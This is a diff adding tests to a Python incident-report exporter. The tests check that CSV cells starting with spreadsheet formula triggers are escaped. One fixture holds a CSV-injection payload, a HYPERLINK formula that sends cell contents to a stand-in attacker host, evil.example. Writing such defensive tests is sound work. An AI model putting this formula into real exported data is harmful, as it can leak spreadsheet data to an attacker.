@@ -106,6 +106,43 @@ def test_csv_header_and_rows():
     assert second["notes"] == "" and second["actor1"] == ""
 
 
+def formula_incident() -> Incident:
+    """Report fields an attacker controls, each starting with a spreadsheet formula trigger."""
+    return Incident(
+        id="XX-formula", sub_event_type="Attack", date=dt.date(2024, 1, 1), date_precision="day",
+        location=Place(name="+Town", lat=12.5, lon=-3.5, country_code="BF", admin1="@admin",
+                       admin2="\tTabbed", precision="town"),
+        perpetrators=[Actor(name="-Gang", basis="reported")],
+        killed=Range(low=2, best=2, high=2),
+        sources=['=HYPERLINK("http://evil.example/?"&A1,"click")'],
+        evidence=[Evidence(field="event", article_id="a9", start=0, end=10, text="\r=1+1 happened")],
+        articles=["a9"],
+    )
+
+
+def test_csv_cell_escapes_formula_text_only():
+    from sitrep.formats import csv_cell
+
+    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "-3.5"):
+        assert csv_cell(text) == "'" + text
+    for value in (-3.5, -2, 0, 1.25, "Jableh", "a=b", " =x", "", "'already"):
+        assert csv_cell(value) == value
+    assert csv_cell(None) == ""
+
+
+def test_csv_escapes_cells_a_spreadsheet_would_run():
+    text = incidents_csv([formula_incident()])
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["source"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert row["location"] == "'+Town" and row["admin1"] == "'@admin" and row["admin2"] == "'\tTabbed"
+    assert row["actor1"] == "'-Gang"
+    assert row["notes"] == "'=1+1 happened"  # whitespace folded, then escaped
+    assert row["longitude"] == "-3.5" and row["latitude"] == "12.5"  # numbers stay numbers
+    for cell in row.values():
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        assert not cell.startswith("-") or cell == "-3.5", cell
+
+
 def test_geojson_points_are_lon_lat_and_skip_missing_coordinates():
     collection = json.loads(incidents_geojson([jableh(), unplaced()]))
     assert collection["type"] == "FeatureCollection"
